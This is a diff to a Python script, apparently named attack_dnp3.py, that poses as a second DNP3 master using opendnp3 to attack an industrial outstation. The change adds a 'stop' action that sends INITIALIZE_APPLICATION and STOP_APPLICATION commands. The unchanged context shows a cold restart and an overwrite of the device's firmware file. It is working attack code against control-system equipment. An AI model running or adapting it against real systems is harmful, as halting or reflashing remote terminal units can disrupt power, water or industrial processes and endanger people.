@@ -1,6 +1,6 @@
-"""A second DNP3 master (opendnp3): restarts, silences or operates an outstation, or sends it a file.
+"""A second DNP3 master (opendnp3): restarts, silences or operates an outstation, stops its application, or sends it a file.
 
-attack_dnp3.py OUTSTATION restart | silence | operate | outputs | file PATH
+attack_dnp3.py OUTSTATION restart | silence | stop | operate | outputs | file PATH
 """
 
 import sys
@@ -23,6 +23,10 @@ master.Enable()
 time.sleep(1)
 if what == "restart":
     master.Restart(dnp3.RestartType.COLD, lambda _: None)
+elif what == "stop":
+    for function in (dnp3.FunctionCode.INITIALIZE_APPLICATION, dnp3.FunctionCode.STOP_APPLICATION):
+        master.PerformFunction(function.name, function, [dnp3.Header.AllObjects(60, 1)])
+        time.sleep(0.5)
 elif what == "file":
     master.WriteFile("/firmware/rtu-2.8.bin", Path(sys.argv[3]).read_bytes(), dnp3.FilePermissions(), lambda *_: None)
     time.sleep(3)
